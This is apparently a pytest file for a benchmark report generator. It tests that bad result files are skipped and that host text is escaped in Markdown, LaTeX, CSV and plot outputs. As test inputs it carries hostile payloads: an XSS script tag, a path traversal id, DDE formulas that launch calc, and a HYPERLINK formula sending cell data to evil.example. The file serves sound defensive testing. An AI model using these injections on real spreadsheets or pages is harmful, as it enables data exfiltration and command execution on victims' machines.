# SPDX-License-Identifier: GPL-3.0-or-later
"""The report against collected files it cannot trust: each file checked against its schema, a bad one skipped and
named with its reason, the outputs written as a set, and text from a host escaped in report.md and report.tex."""
import json
import math
import re
import sys
from pathlib import Path

import pytest

from ansible_collections.specdec.bench.plugins.module_utils._common import results_file
from ansible_collections.specdec.bench.plugins.plugin_utils import report as report_utils
from ansible_collections.specdec.bench.plugins.plugin_utils.report import plots as report_plots
from ansible_collections.specdec.bench.plugins.plugin_utils.report import generate
from ansible_collections.specdec.bench.plugins.plugin_utils.report.csv import csv_cell
from ansible_collections.specdec.bench.plugins.plugin_utils.report.latex_sections import TEX_TEXT

sys.path.insert(0, str(Path(__file__).resolve().parent))
import synthetic_results as synth  # noqa: E402  pylint: disable=wrong-import-position
from report_helpers import TEX_DOCUMENT, TEX_DOCUMENT_OT1, compile_tex, csv_rows  # noqa: E402  pylint: disable=wrong-import-position

OUTPUTS = ['report.md', 'report.tex', 'results-categories.csv', 'results-repeats.csv', 'results-why.csv', 'results.csv', 'results.json']
# The result file of the run at c=4 of a campaign without datasets (random prompts, temperature 0), as the layout names it.
RESULT_C4 = results_file('result', dataset='random', temperature=0.0, concurrency=4)


def campaign(tmp_path, host='ct200'):
    """Two TPs, so that rows of both are sorted against each other."""
    root = tmp_path / 'results'
    synth.make_campaign(root, host, 'c', synth.ct200_matrix(tps=(1, 2), budgets=(16,)), concurrency=(1, 4))
    return root, root / host / 'c'


def edit_json(path, change):
    doc = json.loads(path.read_text())
    doc = change(doc)
    path.write_text(json.dumps(doc))


def set_stage(index, key, value):
    def change(plan):
        plan['stages'][index][key] = value
        return plan
    return change


@pytest.mark.parametrize(('relative', 'change', 'reason'), [
    ('tp1-autoregressive/status.json', lambda doc: [], 'is a list; allowed: an object'),
    ('campaign.json', lambda doc: dict(doc, stages=[1]), 'stages[0] is 1; allowed: an object'),
    ('campaign.json', set_stage(0, 'tp', '1'), "stages[0].tp is '1'; allowed: a positive integer"),
    ('campaign.json', set_stage(1, 'concurrency', [1, None]), 'stages[1].concurrency[1] is None; allowed: a positive integer'),
    ('campaign.json', set_stage(0, 'id', '../../etc'), "stages[0].id is '../../etc'; allowed: a stage id"),
    ('tp1-dflash-n16/gpus.json', lambda doc: dict(doc, nvidia_gpus=[dict(doc['nvidia_gpus'][0], memory_total_mib=math.nan)]),
     'nvidia_gpus[0].memory_total_mib is nan; allowed: a number of MiB'),
    ('tp1-dflash-n16/' + RESULT_C4, lambda doc: dict(doc, output_throughput='fast'),
     "output_throughput is 'fast'; allowed: a finite number"),
    ('tp1-dflash-n16/' + RESULT_C4, lambda doc: dict(doc, completed=math.inf), 'completed is inf; allowed: a count'),
    ('tp1-dflash-n16/server_info.json', lambda doc: dict(doc, version=['0.5']), 'version is a list; allowed: a string or null'),
    ('tp1-dflash-n16/status.json', lambda doc: dict(doc, status=None), 'status is None; allowed: a status name'),
])
def test_a_wrongly_typed_file_is_skipped_and_named_with_its_reason(tmp_path, relative, change, reason):
    root, folder = campaign(tmp_path)
    edit_json(folder / relative, change)
    out = tmp_path / 'out'
    made = generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
    skipped = made['skipped_files']
    assert [item['path'] for item in skipped] == ['ct200/c/' + relative]
    assert reason in skipped[0]['reason']
    assert made['report']['skipped_files'] == skipped
    md = (out / 'report.md').read_text()
    assert '## Files skipped' in md and '`ct200/c/%s`' % relative in md
    assert json.loads((out / 'results.json').read_text())['skipped_files'] == skipped
    assert sorted(made['changed']) == OUTPUTS
    assert any('ct200/c/%s' % relative in line for line in made['lines'])


def test_what_the_stages_write_is_not_skipped(tmp_path):
    root, _folder = campaign(tmp_path)
    assert generate(str(root), 'c', str(tmp_path / 'out'), synth.LAYOUT, plots=False)['skipped_files'] == []


def test_a_skipped_status_or_result_makes_its_rows_invalid_with_the_reason(tmp_path):
    root, folder = campaign(tmp_path)
    (folder / 'tp1-autoregressive' / 'status.json').write_text('[]')
    (folder / 'tp1-dflash-n16' / RESULT_C4).write_text('{"complete": tru')
    made = generate(str(root), 'c', str(tmp_path / 'out'), synth.LAYOUT, plots=False)
    rows = {(row['stage'], row['concurrency']): row for row in made['report']['rows']}
    assert rows[('tp1-autoregressive', 1)]['status'] == 'invalid'
    assert rows[('tp1-autoregressive', 1)]['reason'].startswith('status.json skipped: the document is a list')
    assert rows[('tp1-dflash-n16', 4)]['status'] == 'invalid'
    assert rows[('tp1-dflash-n16', 4)]['reason'].startswith(RESULT_C4 + ' skipped: not valid JSON')
    assert rows[('tp1-dflash-n16', 1)]['status'] == 'ok'
    assert [item['stage'] for item in made['report']['not_measured']] == ['tp1-autoregressive']


def test_a_skipped_campaign_json_leaves_the_stage_folders(tmp_path):
    root, folder = campaign(tmp_path)
    (folder / 'campaign.json').write_text('{"stages": {"tp1-autoregressive": {}}}')
    made = generate(str(root), 'c', str(tmp_path / 'out'), synth.LAYOUT, plots=False)
    assert made['skipped_files'][0]['reason'] == 'stages is a dict; allowed: a list of stages'
    assert sorted(set(row['stage'] for row in made['report']['rows'])) == [
        'tp1-autoregressive', 'tp1-ddtree-b16-k4', 'tp1-dflash-n16', 'tp2-autoregressive', 'tp2-ddtree-b16-k4', 'tp2-dflash-n16']


def test_a_file_that_is_not_json_is_skipped_not_fatal(tmp_path):
    root, folder = campaign(tmp_path)
    (folder / 'tp2-autoregressive' / 'server_info.json').write_text('{"version": ')
    (folder / 'tp2-autoregressive' / 'gpus.json').unlink()
    (folder / 'tp2-autoregressive' / 'gpus.json').mkdir()
    made = generate(str(root), 'c', str(tmp_path / 'out'), synth.LAYOUT, plots=False)
    assert [(item['path'], item['reason'].split(':')[0]) for item in made['skipped_files']] == [
        ('ct200/c/tp2-autoregressive/gpus.json', 'unreadable'),
        ('ct200/c/tp2-autoregressive/server_info.json', 'not valid JSON')]


def test_outputs_are_written_as_a_set_a_failure_leaves_the_previous_set(tmp_path, monkeypatch):
    root, folder = campaign(tmp_path)
    out = tmp_path / 'out'
    generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
    before = {name: (out / name).read_bytes() for name in OUTPUTS}
    edit_json(folder / 'tp1-dflash-n16' / RESULT_C4, lambda doc: dict(doc, output_throughput=doc['output_throughput'] * 2))

    def broken(_report):
        raise RuntimeError('rendering failed')
    monkeypatch.setattr(report_utils, 'render_latex', broken)
    with pytest.raises(RuntimeError):
        generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
    assert {name: (out / name).read_bytes() for name in OUTPUTS} == before
    monkeypatch.undo()
    real_replace, renamed, staged = report_utils.os.replace, [], []
    real_write = report_utils.atomic_write

    def failing_write(path, data, **options):
        if staged:  # the first file is staged, the second fails: still nothing of the new set is in place
            raise OSError(28, 'No space left on device')
        staged.append(path)
        return real_write(path, data, **options)
    monkeypatch.setattr(report_utils, 'atomic_write', failing_write)
    with pytest.raises(OSError):
        generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
    assert len(staged) == 1 and Path(staged[0]).parent != out
    assert {name: (out / name).read_bytes() for name in OUTPUTS} == before
    assert sorted(p.name for p in out.iterdir()) == OUTPUTS  # no temporary file left
    monkeypatch.undo()
    monkeypatch.setattr(report_utils.os, 'replace', lambda src, dst: renamed.append(dst) or real_replace(src, dst))
    made = generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
    # the throughput changed: every file but the (empty) per-category table (results-why.csv repeats the speedup)
    assert sorted(made['changed']) == ['report.md', 'report.tex', 'results-repeats.csv', 'results-why.csv', 'results.csv', 'results.json']
    # what was renamed into the report's folder: the changed files, each once (the staged writes rename inside staging)
    assert sorted(Path(path).name for path in renamed if Path(path).parent == out) == sorted(made['changed'])
    assert all(out in Path(path).parents for path in renamed)
    assert sorted(p.name for p in out.iterdir()) == OUTPUTS


SCRIPT = '<script>alert(1)</script> | a & b'


def test_text_from_a_host_is_escaped_in_report_md(tmp_path):
    root, folder = campaign(tmp_path)
    edit_json(folder / 'tp2-autoregressive' / 'status.json', lambda doc: dict(doc, status='failed', reason=SCRIPT))
    edit_json(folder / 'tp1-dflash-n16' / 'server_info.json', lambda doc: dict(doc, version='<b>0.5</b>'))
    edit_json(folder / 'tp1-autoregressive' / 'gpus.json',
              lambda doc: dict(doc, nvidia_gpus=[dict(gpu, name='GPU <img src=x>') for gpu in doc['nvidia_gpus']]))
    edit_json(folder / 'campaign.json', set_stage(1, 'method', 'dflash<i>|x'))
    out = tmp_path / 'out'
    generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
    md = (out / 'report.md').read_text()
    assert '<' not in md and '>' not in md.replace('->', '')
    assert '&lt;script&gt;alert(1)&lt;/script&gt; \\| a &amp; b' in md
    assert '&lt;b&gt;0.5&lt;/b&gt;' in md and 'GPU &lt;img src=x&gt;' in md
    assert 'dflash&lt;i&gt;\\|x n=16' in md
    lines = md.splitlines()
    rows = [number for number, line in enumerate(lines) if line.startswith('| dflash')]
    assert len(rows) > 1  # the setting tables and the why tables
    for number in rows:  # the escaped | splits no cell: each row has its header's cells
        header = [line for line in lines[:number] if line.startswith('| setting |')][-1]
        assert len(re.findall(r'(?<!\\)\|', lines[number])) == len(re.findall(r'(?<!\\)\|', header))
    assert len(re.findall(r'(?<!\\)\|', next(line for line in lines if line.startswith('| dflash') and line.count('|') < 8))) == 4
    tex = (out / 'report.tex').read_text()
    assert r'dflash\textless{}i\textgreater{}\textbar{}x n=16' in tex
    assert '<' not in tex and '>' not in tex and '|' not in tex


def test_a_stage_folder_name_from_a_host_is_escaped(tmp_path):
    root, folder = campaign(tmp_path)
    (folder / 'x`<b>|y').mkdir()
    out = tmp_path / 'out'
    generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
    md = (out / 'report.md').read_text()
    assert 'x\\`&lt;b&gt;\\|y' in md and '<b>' not in md


# Text from a host that a spreadsheet, matplotlib, pdflatex or a Markdown renderer with math would act on.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
GPU_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
VERSION_FORMULA = "-2+3+cmd|' /C calc'!A0"
METHOD_FORMULA = '=1+2'
FORMULA_START = ('=', '+', '-', '@', '\t', '\r')
NUMBER_RE = re.compile(r'^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$')


def hostile_campaign(root, campaign, seed, method=METHOD_FORMULA, host='ct200', **options):
    """One host's campaign of repeats over Spec-Bench (so every CSV has rows), DFlash's method renamed to method."""
    matrix = [(1, 'autoregressive', {}), (1, 'dflash', {'num_draft_tokens': 16}), (1, 'ddtree', {'budget': 16, 'topk': 4})]
    synth.make_campaign(root, host, campaign, matrix, concurrency=(1, 4), num_prompts=6, datasets=['spec-bench'], repeats=2,
                        seed=seed, **options)
    folder = root / host / campaign
    edit_json(folder / 'campaign.json', set_stage(1, 'method', method))
    return folder


def test_text_that_a_spreadsheet_would_run_is_neutralized_in_every_csv(tmp_path):
    root = tmp_path / 'results'
    hostile_campaign(root, 'c-before', seed=11)
    folder = hostile_campaign(root, 'c', seed=3)
    edit_json(folder / 'tp1-ddtree-b16-k4' / 'status.json', lambda doc: dict(doc, status='failed', reason=HYPERLINK))
    edit_json(folder / 'tp1-dflash-n16' / 'gpus.json', lambda doc: dict(
        doc, nvidia_driver=dict(doc['nvidia_driver'], version='+1+1'),
        nvidia_gpus=[dict(gpu, name=GPU_FORMULA) for gpu in doc['nvidia_gpus']]))
    edit_json(folder / 'tp1-dflash-n16' / 'server_info.json', lambda doc: dict(doc, version=VERSION_FORMULA))
    out = tmp_path / 'out'
    made = generate(str(root), 'c', str(out), synth.LAYOUT, plots=False, compare_to='c-before')
    assert made['skipped_files'] == []
    names = ('results.csv', 'results-repeats.csv', 'results-categories.csv', 'compare-c-before.csv')
    tables = {name: csv_rows(out / name) for name in names}
    numbers = []
    for name, rows in tables.items():
        assert rows, name
        assert any(row['setting'] == "'=1+2 n=16" for row in rows), name  # the method's text, in each file's setting
        for row in rows:
            for key, cell in row.items():
                if cell.startswith(FORMULA_START):  # only a plain number may start as a formula does
                    assert NUMBER_RE.match(cell), (name, key, cell)
                    numbers.append(float(cell))
    assert any(number < 0 for number in numbers)  # negative numbers (compare's deltas) are still numbers
    rows = dict(((row['stage'], row['concurrency']), row) for row in tables['results.csv'])
    assert rows[('tp1-ddtree-b16-k4', '1')]['reason'] == "'" + HYPERLINK
    dflash = rows[('tp1-dflash-n16', '1')]
    assert (dflash['gpu_name'], dflash['driver'], dflash['sglang_version']) == ("'" + GPU_FORMULA, "'+1+1", "'" + VERSION_FORMULA)
    assert dflash['method'] == "'" + METHOD_FORMULA


@pytest.mark.parametrize(('value', 'cell'), [
    (-0.5, -0.5), (-3, -3), ('-3', '-3'), ('+1.5e3', '+1.5e3'), ('-.5', '-.5'),  # numbers, and text that is one number
    ('-2+3', "'-2+3"), ('+1+1', "'+1+1"), ('-inf', "'-inf"), ('-', "'-"), ('@x', "'@x"), ('=1', "'=1"),
    ('\t=1', "'\t=1"), ('\r=1', "'\r=1"), (' =1', ' =1'), ('ok', 'ok'), (None, ''), (True, 'true'), (False, 'false'),
])
def test_a_csv_cell_is_neutralized_when_text_and_never_when_a_number(value, cell):
    assert csv_cell(value) == cell and type(csv_cell(value)) is type(cell)  # pylint: disable=unidiomatic-typecheck


MATH = r'$\undefinedmacro$'


def test_a_dollar_in_host_text_is_plain_text_in_every_plot(tmp_path, monkeypatch):
    """A method and a host named with mathtext: matplotlib raised ValueError on them and no file was written."""
    from matplotlib.text import Text  # pylint: disable=import-outside-toplevel
    root = tmp_path / 'results'
    host = 'ct' + MATH
    hostile_campaign(root, 'c', seed=3, method='dflash' + MATH, host=host, energy=True)
    texts, real_png = [], report_plots._png  # pylint: disable=protected-access

    def png(figure):
        data = real_png(figure)  # drawn first: the tick labels and the legend's texts exist only then
        texts.extend((text.get_text(), text.get_parse_math(), text.get_usetex()) for text in figure.findobj(Text))
        return data
    monkeypatch.setattr(report_plots, '_png', png)
    made = generate(str(root), 'c', str(tmp_path / 'out'), synth.LAYOUT)
    pngs = [name for name in made['files'] if name.endswith('.png')]
    assert len(pngs) >= 4 and made['plots_skipped'] is None
    shown = [text for text, _parse, _usetex in texts]
    assert any(text.startswith('dflash' + MATH) for text in shown)  # a legend label
    assert any(host in text for text in shown)  # a title
    assert [item for item in texts if '$' in item[0] and (item[1] or item[2])] == []


# A right-to-left override, an emoji, a terminal escape, NUL, BEL and DEL; an isolate, a zero-width space, CJK.
THROTTLE_REASON = 'sw_power_cap\u202e\U0001f525\x1b[31m\x00\x07\x7f'
METHOD_UNSETTABLE = 'dflash\u2066\u200b\U0001f680\u663e\u5361 é'


def test_report_tex_compiles_with_control_bidi_and_emoji_in_host_text(tmp_path):
    """pdflatex stopped on each of these ("Unicode character not set up", "invalid character"): each is now written
    as Python's ascii() writes it, and report.tex compiles in T1 and in article's default OT1."""
    root = tmp_path / 'results'
    folder = hostile_campaign(root, 'c', seed=3, method=METHOD_UNSETTABLE, energy=True, throttled={'tp1-dflash-n16': [(1, 2)]})
    name = synth.REPEAT_LAYOUT['result'].format(dataset='spec-bench', temperature='0', concurrency=1, repeat=2)
    edit_json(folder / 'tp1-dflash-n16' / name, lambda doc: dict(doc, gpu_throttled=[THROTTLE_REASON]))
    out = tmp_path / 'out'
    made = generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
    assert made['skipped_files'] == []
    for encoding, document in (('t1', TEX_DOCUMENT), ('ot1', TEX_DOCUMENT_OT1)):
        (tmp_path / encoding).mkdir()
        compile_tex(out / 'report.tex', tmp_path / encoding, document=document)
    tex = (out / 'report.tex').read_text(encoding='utf-8')
    assert r'sw\_power\_cap\textbackslash{}u202e\textbackslash{}U0001f525\textbackslash{}x1b[31m\textbackslash{}x00' in tex
    assert r'dflash\textbackslash{}u2066\textbackslash{}u200b\textbackslash{}U0001f680\textbackslash{}u663e\textbackslash{}u5361 é' in tex
    assert sorted(set(char for char in tex if char not in TEX_TEXT)) == ['\n']


def test_a_dollar_from_a_host_is_no_math_in_report_md(tmp_path):
    """GitHub renders $...$ in a Markdown file as math (MathJax): text from a host could set formulas, colours or
    hide words in report.md. _md_code sends text with a $ to md_escape, which left the $ as it was."""
    root = tmp_path / 'results'
    folder = hostile_campaign(root, 'c', seed=3, method='dflash' + MATH)
    (folder / 'tp9-$x$').mkdir()  # a stage folder the plan does not name: _md_code
    edit_json(folder / 'tp1-ddtree-b16-k4' / 'status.json', lambda doc: dict(
        doc, status='failed', reason=r'costs $\color{red}{\text{nothing}}$ and $$x^2$$'))
    edit_json(folder / 'tp1-dflash-n16' / 'server_info.json', lambda doc: dict(doc, version='$0.5$'))
    out = tmp_path / 'out'
    generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
    md = (out / 'report.md').read_text()
    assert '$' not in md
    assert r'costs &#36;\\color{red}{\\text{nothing}}&#36; and &#36;&#36;x^2&#36;&#36;' in md
    assert r'dflash&#36;\\undefinedmacro&#36;' in md and '&#36;0.5&#36;' in md and 'tp9-&#36;x&#36;' in md
